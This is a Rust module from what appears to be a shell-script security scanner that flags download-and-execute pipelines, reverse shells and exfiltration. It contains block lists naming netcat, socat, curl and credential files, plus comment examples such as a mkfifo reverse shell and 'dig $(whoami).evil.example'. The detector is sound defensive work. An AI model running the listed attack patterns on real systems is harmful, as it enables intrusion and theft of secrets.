//! What is downloaded and run, shells to other hosts, and what leaves the machine.

use super::{At, INTERPRETERS, SHELLS};
use crate::places;
use crate::rules::{self, Hit, Rule};
use crate::shell::program::{Program, base_name};
use crate::shell::syntax::Command;

/// Programs that download to their standard output, or can.
const FETCHERS: &[&str] = &[
    "aria2c",
    "curl",
    "fetch",
    "http",
    "https",
    "invoke-restmethod",
    "invoke-webrequest",
    "irm",
    "iwr",
    "lwp-request",
    "lynx",
    "wget",
];

/// Programs that send what they are given to another host.
const SENDERS: &[&str] =
    &["curl", "ftp", "nc", "ncat", "netcat", "rsync", "scp", "sftp", "socat", "telnet", "tftp", "wget"];

/// Programs that open a connection and hand it to a program.
const CONNECTORS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];

/// Programs that ask for a name that they are given, which reaches the name's own server.
const RESOLVERS: &[&str] = &["dig", "drill", "getent", "host", "nslookup", "ping"];

/// Options by which `curl` and `wget` send a file or a text.
const UPLOADS: &[&str] = &[
    "-d",
    "--data",
    "--data-binary",
    "--data-raw",
    "--data-urlencode",
    "-F",
    "--form",
    "-T",
    "--upload-file",
    "--post-data",
    "--post-file",
    "--body-file",
    "--body-data",
];

/// Programs that say who and where they run.
const REVEALING: &[&str] = &["env", "hostname", "id", "ifconfig", "printenv", "whoami", "history", "set"];

/// Words by which a program in a script's language opens a connection, and by which it runs a shell.
const SOCKETS: &[&str] =
    &["socket", "fsockopen", "tcpsocket", "net.createconnection", "net.connect", "tcpclient", "io::socket"];
const RUNS: &[&str] =
    &["/bin/sh", "/bin/bash", "subprocess", "dup2", "exec", "pty.spawn", "cmd.exe", "child_process", "iex", "system("];

/// Files that were downloaded, by name.
#[derive(Default)]
pub(super) struct Downloads(Vec<String>);

/// Downloads that are remembered.
const MOST_DOWNLOADS: usize = 8;

pub(super) fn judge(at: At<'_, '_>, program: &Program<'_>, downloads: &mut Downloads, hits: &mut Vec<Hit>) {
    run_from_elsewhere(at, program, hits);
    reverse_shell(at, program, hits);
    exfiltration(at, program, hits);
    downloads.follow(at, program, hits);
}

/// An interpreter that runs what was downloaded or decoded.
fn run_from_elsewhere(at: At<'_, '_>, program: &Program<'_>, hits: &mut Vec<Hit>) {
    let interprets = program.is(INTERPRETERS);
    if (interprets || program.is(&[".", "source"])) && reads_program(program) {
        let found = at.script.upstream(at.command).find_map(|source| Some((source, comes_from(source)?)));
        hits.extend(found.map(|(source, rule)| at.hit_from(source, rule)));
    }
    // `bash <(curl …)`, `sh -c "$(curl …)"`, `eval "$(… | base64 -d)"`, and a substitution in the place of a program.
    if interprets || program.word.text.starts_with("$()") || program.is(&["source", ".", "eval"]) {
        hits.extend(at.script.within(at.index).iter().find_map(comes_from).map(|rule| at.hit(rule)));
    }
    let powershell = program.is(&["powershell", "pwsh"]);
    let rule = at.command.words.iter().find_map(|word| {
        let word = word.text.to_ascii_lowercase();
        let encoded = powershell && matches!(word.as_str(), "-enc" | "-encodedcommand" | "-e" | "-ec" | "-encodedc");
        if [".downloadstring", ".downloadfile", ".downloaddata"].iter().any(|call| word.contains(call)) {
            Some(&rules::SHELL_PIPE)
        } else {
            encoded.then_some(&rules::SHELL_DECODE)
        }
    });
    hits.extend(rule.map(|rule| at.hit(rule)));
}

/// The rule for running what a command writes, if that was downloaded or decoded.
fn comes_from(command: &Command<'_>) -> Option<&'static Rule> {
    let source = Program::of(command)?;
    if source.is(FETCHERS) { Some(&rules::SHELL_PIPE) } else { decodes(&source).then_some(&rules::SHELL_DECODE) }
}

/// Whether an interpreter reads its program from its input: no file and no `-c` says otherwise.
fn reads_program(program: &Program<'_>) -> bool {
    let says = |text: &str| text == "-" || text == "-s" || text == "/dev/stdin" || text == "--";
    program.args.iter().all(|arg| says(&arg.text) || is_flag(&arg.text))
        || program.args.first().is_some_and(|arg| says(&arg.text))
}

/// An option of an interpreter that leaves it reading its input: not one with a program or a module.
fn is_flag(text: &str) -> bool {
    text.starts_with('-') && !text.bytes().any(|byte| matches!(byte, b'c' | b'e' | b'm' | b'r' | b'n' | b'p'))
}

fn decodes(program: &Program<'_>) -> bool {
    match program.name.as_str() {
        "base64" | "base32" | "basenc" => program.has(&["-d", "-D", "--decode", "-di"]),
        "xxd" => program.has(&["-r", "-rp", "-r-p"]) || program.has_letter('r'),
        "openssl" => program.has(&["-d"]),
        "rev" | "uudecode" => true,
        _ => false,
    }
}

/// A shell whose input and output are a connection.
fn reverse_shell(at: At<'_, '_>, program: &Program<'_>, hits: &mut Vec<Hit>) {
    let hit = at.hit(&rules::SHELL_REVERSE);
    let redirects = at.command.redirects.iter().map(|redirect| &redirect.target.text);
    let device = |text: &str| text.contains("/dev/tcp/") || text.contains("/dev/udp/");
    let words = at.command.words.iter().map(|word| &word.text);
    if words.chain(redirects).any(|text| device(text) || text.contains("/inet/tcp/")) {
        hits.push(hit);
        return;
    }
    let runs = |text: &str| {
        let name = base_name(text);
        SHELLS.contains(&name.as_str()) || matches!(name.as_str(), "cmd" | "powershell")
    };
    let handed = program.is(CONNECTORS)
        && (program.behind(&["-e", "-c", "--exec", "--sh-exec"]).is_some_and(|arg| runs(&arg.text))
            || program
                .args
                .iter()
                .any(|arg| arg.text.starts_with('-') && arg.text.len() > 2 && arg.text.ends_with('e'))
                && program.operands().any(|arg| runs(&arg.text)));
    let socat = program.is(&["socat"])
        && program.args.iter().any(|arg| {
            let text = arg.text.to_ascii_lowercase();
            text.starts_with("exec:") || text.starts_with("system:")
        });
    // `nc host 1 | sh`, `mkfifo p; sh < p | nc host 1 > p`.
    let connects = |program: &Program<'_>| program.is(CONNECTORS) || program.is(&["telnet"]) || is_tls_client(program);
    let from = at
        .script
        .upstream(at.command)
        .filter_map(Program::of)
        .any(|source| (program.is(SHELLS) && connects(&source)) || (connects(program) && source.is(SHELLS)));
    let code = program.is(INTERPRETERS)
        && program.args.iter().filter(|arg| arg.text.len() > 16).any(|arg| {
            let text = arg.text.to_ascii_lowercase();
            SOCKETS.iter().any(|word| text.contains(word)) && RUNS.iter().any(|word| text.contains(word))
        });
    if handed || socat || from || code {
        hits.push(hit);
    }
}

fn is_tls_client(program: &Program<'_>) -> bool {
    program.is(&["openssl"]) && program.has(&["s_client"])
}

/// What is read here and sent elsewhere.
fn exfiltration(at: At<'_, '_>, program: &Program<'_>, hits: &mut Vec<Hit>) {
    let hit = at.hit(&rules::SHELL_EXFILTRATION);
    let inner = || at.script.within(at.index).iter().filter_map(Program::of);
    if program.is(RESOLVERS) && !program.is(&["getent"]) {
        // `dig $(whoami).evil.example`: the text is part of the name.
        let in_name = program.args.iter().any(|arg| arg.text.contains("$().") || arg.text.contains(".$()"));
        if in_name && inner().next().is_some() {
            hits.push(hit);
        }
        return;
    }
    if !program.is(SENDERS) {
        return;
    }
    if inner().any(|source| source.is(REVEALING) || reads_credentials(&source)) {
        hits.push(hit);
        return;
    }
    let uploads = program.args.iter().any(|arg| {
        let option = arg.text.split('=').next().unwrap_or_default();
        UPLOADS.contains(&option)
    });
    let file = |text: &str| {
        let file = text.rsplit(['@', '=', '<']).next().unwrap_or_default();
        let normal = places::normal(file);
        places::keeps_credentials(&normal) || normal == "/etc/passwd"
    };
    let sends_file = program.args.iter().any(|arg| arg.text.len() > 4 && file(&arg.text));
    let remote = program.is(&["scp", "rsync", "sftp"]) && program.operands().any(|arg| arg.text.contains(':'));
    let fed = at.command.redirects.iter().any(|redirect| !redirect.writes && file(&redirect.target.text));
    if (sends_file && (uploads || remote)) || fed {
        hits.push(hit);
        return;
    }
    let connects = program.is(CONNECTORS) || program.is(&["telnet"]) || uploads;
    for source in at.script.upstream(at.command).filter(|_| connects) {
        let Some(reads) = Program::of(source) else { continue };
        if reads.is(REVEALING) || reads_credentials(&reads) {
            hits.push(at.hit_from(source, &rules::SHELL_EXFILTRATION));
            return;
        }
    }
}

/// Whether a program is given a file with credentials, or the list of a machine's users.
fn reads_credentials(program: &Program<'_>) -> bool {
    program.args.iter().filter(|arg| arg.text.len() > 3).any(|arg| {
        let normal = places::normal(&arg.text);
        places::keeps_credentials(&normal) || normal == "/etc/passwd" || normal == "/.env" || normal.ends_with("/.env")
    })
}

impl Downloads {
    /// Notes what a command downloads, and finds one that runs what was.
    fn follow(&mut self, at: At<'_, '_>, program: &Program<'_>, hits: &mut Vec<Hit>) {
        if program.is(FETCHERS) {
            let to = program.behind(&["-o", "-O", "--output", "--output-document", "-OutFile"]);
            let named =
                to.filter(|to| !to.text.starts_with('-') && !to.text.contains("://")).map(|to| base_name(&to.text));
            let from = program.operands().find(|arg| arg.text.contains("://"));
            let of_url = from.map(|arg| base_name(arg.text.split(['?', '#']).next().unwrap_or_default()));
            let redirected = at.command.redirects.iter().find(|redirect| redirect.writes);
            let name = named.or_else(|| redirected.map(|redirect| base_name(&redirect.target.text))).or(of_url);
            self.0.extend(name.filter(|name| !name.is_empty() && self.0.len() < MOST_DOWNLOADS));
            return;
        }
        if self.0.is_empty() {
            return;
        }
        let is_one = |text: &str| self.0.contains(&base_name(text));
        let by_interpreter = program.is(INTERPRETERS) || program.is(&["source", "."]);
        let run = program.word.text.contains('/') && is_one(&program.word.text);
        let marked = program.is(&["chmod"]) && program.args.iter().any(|arg| makes_executable(&arg.text));
        if run || ((by_interpreter || marked) && program.operands().any(|arg| is_one(&arg.text))) {
            hits.push(at.hit(&rules::SHELL_FETCH_RUN));
        }
    }
}

/// Whether a mode of `chmod` makes a file one that can be run.
fn makes_executable(mode: &str) -> bool {
    let digits = mode.len() >= 3 && mode.bytes().all(|byte| byte.is_ascii_digit());
    mode.contains("+x") || (digits && mode.bytes().any(|byte| byte % 2 == 1))
}
